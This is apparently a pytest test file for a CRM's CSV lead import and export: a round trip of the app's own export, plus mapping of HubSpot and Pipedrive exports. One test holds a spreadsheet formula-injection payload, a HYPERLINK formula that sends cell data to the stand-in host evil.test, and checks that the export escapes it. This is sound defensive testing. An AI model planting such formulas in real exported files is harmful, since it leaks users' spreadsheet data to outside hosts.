"""A list that we wrote comes in again without changing anybody; those of other systems come in as they are."""

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

from django.db import transaction
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from accounts.scope import agency_scope, scoped
from accounts.services.audit import NOWHERE
from conftest import NOON, Cast
from crm.importing.fields import guess
from crm.lead_filter import LeadFilter
from crm.lead_list import TABLE
from crm.models import Activity, ImportJob, ImportRow, Lead, LeadTag, PipelineStage, Tag
from crm.paging import Source
from crm.services.exporting import Listed, export_list
from crm.tests.test_import_jobs import Desk, text_of

TEXT = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=20
) | st.sampled_from(
    ["=1+1", "'=1", "''-x", "'Aloha", "+49 30", "@home", "a\nb", ' "x", y; z', "a\tb", "\u00a0"]
)
WORDS = (
    "first_name",
    "last_name",
    "display_name",
    "company_name",
    "title",
    "city",
    "state",
    "country",
    "external_ref",
)
PEOPLE = st.fixed_dictionaries(dict.fromkeys(WORDS, TEXT)) | st.fixed_dictionaries(
    {"display_name": TEXT, "value": st.decimals(0, 99_999_999, places=2)}
)


def exported(cast: Cast) -> bytes:
    nora = cast.actor("nora")
    own = ["l.client_id = %s", "l.archived_at IS NULL"]
    listed = Listed(LeadFilter(), LeadFilter().order, Source(TABLE, own, [cast.brightside.client.pk]))
    with (
        scoped(nora.scope),
        transaction.atomic(),
        export_list(
            actor=nora, what="leads", listed=listed, zone="America/Chicago", now=NOON, origin=NOWHERE
        ) as file,
    ):
        return file.read()


def kept(desk: Desk) -> tuple[Any, ...]:
    with agency_scope(desk.agency_id), transaction.atomic():
        tags = list(LeadTag.unscoped.filter(client=desk.house.client).order_by("pk").values())
        lines = Activity.unscoped.filter(client=desk.house.client).count()
    return desk.leads(), tags, lines


def changes(desk: Desk, job: ImportJob) -> list[Any]:
    with agency_scope(desk.agency_id), transaction.atomic():
        rows = ImportRow.unscoped.filter(job=job).exclude(status="skipped")
        return list(rows.values_list("line", "reason", "before", "after"))


@settings(
    max_examples=6,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    phases=[Phase.generate],
)
@given(people=st.lists(st.tuples(PEOPLE, st.booleans()), min_size=20, max_size=20))
def test_import_of_an_export_changes_nobody(cast: Cast, people: list[tuple[dict[str, Any], bool]]) -> None:
    desk, house = Desk(cast), cast.brightside
    own: dict[str, Any] = {"agency_id": desk.agency_id, "client": house.client}
    with agency_scope(desk.agency_id), transaction.atomic():
        stage, _ = PipelineStage.unscoped.get_or_create(**own, name="Quote sent", defaults={"position": 90})
        tag, _ = Tag.unscoped.get_or_create(**own, name="Roof")
        for number, (facts, has_number) in enumerate(people):
            number_of = {"phone": f"(512) 555-01{number:02}", "phone_e164": f"+151255501{number:02}"}
            lead = Lead.unscoped.create(**own, **facts, **(number_of if has_number else {}), stage=stage)
            LeadTag.unscoped.create(**own, lead=lead, tag=tag)
        every = Lead.unscoped.filter(client=house.client, archived_at=None).count()
    before = kept(desk)

    job = desk.run(exported(cast), policy="update")

    assert (job.skipped, job.total) == (every, every), changes(desk, job)
    assert kept(desk) == before


def test_formula_comes_in_as_text_and_goes_out_harmless(cast: Cast) -> None:
    desk, formula = Desk(cast), '=HYPERLINK("https://evil.test?x="&A1,"Ann")'
    desk.run(text_of([formula, "", "ann@example.test"], head=["Full name", "City", "E-mail"]))
    file = exported(cast)
    told = next(
        line for line in csv.reader(io.StringIO(file.decode("utf-8-sig"))) if "ann@example.test" in line
    )

    assert desk.find(email="ann@example.test").display_name == formula
    assert told[0] == f"'{formula}"
    again = desk.run(file, policy="update")
    assert again.skipped == again.total, changes(desk, again)


HUBSPOT = text_of(
    ["101", "Dana", "Whitfield", "dana@example.test", "(512) 555-0101", "Whitfield Dental", "Owner", "Lead", "Austin",
     "Texas", "United States", "linkedin.com/in/dana-whitfield/", "2026-11-20 14:30"],
    ["102", "Luis", "Ortega", "luis@example.test", "+1 512-555-0102", "", "", "Customer", "Waco", "TX", "US", "", ""],
    head=["Record ID", "First Name", "Last Name", "Email", "Phone Number", "Associated Company", "Job Title",
          "Lifecycle Stage", "City", "State/Region", "Country/Region", "LinkedIn URL", "Last Activity Date"],
)  # fmt: skip
PIPEDRIVE = text_of(
    ["7", "Dana Whitfield", "Dana", "Whitfield", "Whitfield Dental", "dana@example.test", "", "(512) 555-0101", "",
     "Hot, Roof", "Owner"],
    head=["Person - ID", "Person - Name", "Person - First name", "Person - Last name", "Person - Organization",
          "Person - Email - Work", "Person - Email - Home", "Person - Phone - Work", "Person - Phone - Mobile",
          "Person - Label", "Person - Job title"],
)  # fmt: skip


def local(desk: Desk, lead: Lead) -> datetime:
    assert lead.last_call_at
    return lead.last_call_at.astimezone(ZoneInfo(desk.house.client.timezone))


def test_list_of_hubspot_comes_in_without_a_word_from_anybody(cast: Cast) -> None:
    desk = Desk(cast)
    job = desk.run(HUBSPOT)
    dana, luis = desk.find(email="dana@example.test"), desk.find(email="luis@example.test")

    assert (job.created, job.failed) == (2, 0)
    assert (
        dana.external_ref, dana.name, dana.phone_e164, dana.company_name, dana.title, dana.city, dana.state,
        dana.country, dana.linkedin_url, dana.enrichment_data, f"{local(desk, dana):%Y-%m-%d %H:%M}",
    ) == (
        "101", "Dana Whitfield", "+15125550101", "Whitfield Dental", "Owner", "Austin", "Texas", "United States",
        "https://www.linkedin.com/in/dana-whitfield", {"Lifecycle Stage": "Lead"}, "2026-11-20 14:30",
    )  # fmt: skip
    assert (luis.name, luis.phone_e164, luis.linkedin_url) == ("Luis Ortega", "+15125550102", "")


def test_list_of_pipedrive_comes_in_without_a_word_from_anybody(cast: Cast) -> None:
    desk = Desk(cast)
    job = desk.run(PIPEDRIVE)
    dana = desk.find(email="dana@example.test")

    assert (job.created, job.failed) == (1, 0)
    assert (dana.external_ref, dana.name, dana.first_name, dana.company_name, dana.phone_e164, dana.title) == (
        "7", "Dana Whitfield", "Dana", "Whitfield Dental", "+15125550101", "Owner",
    )  # fmt: skip
    with agency_scope(desk.agency_id), transaction.atomic():
        assert set(LeadTag.unscoped.filter(lead=dana).values_list("tag__name", flat=True)) == {"Hot", "Roof"}


def test_headings_of_our_own_list_are_left_alone_in_it_only() -> None:
    assert guess(["Lead ID", "Status", "Added (UTC)", "Reference"]) == ["id", "", "", "external_ref"]
    assert guess(["Status", "Owner", "Sourcing"]) == ["custom"] * 3
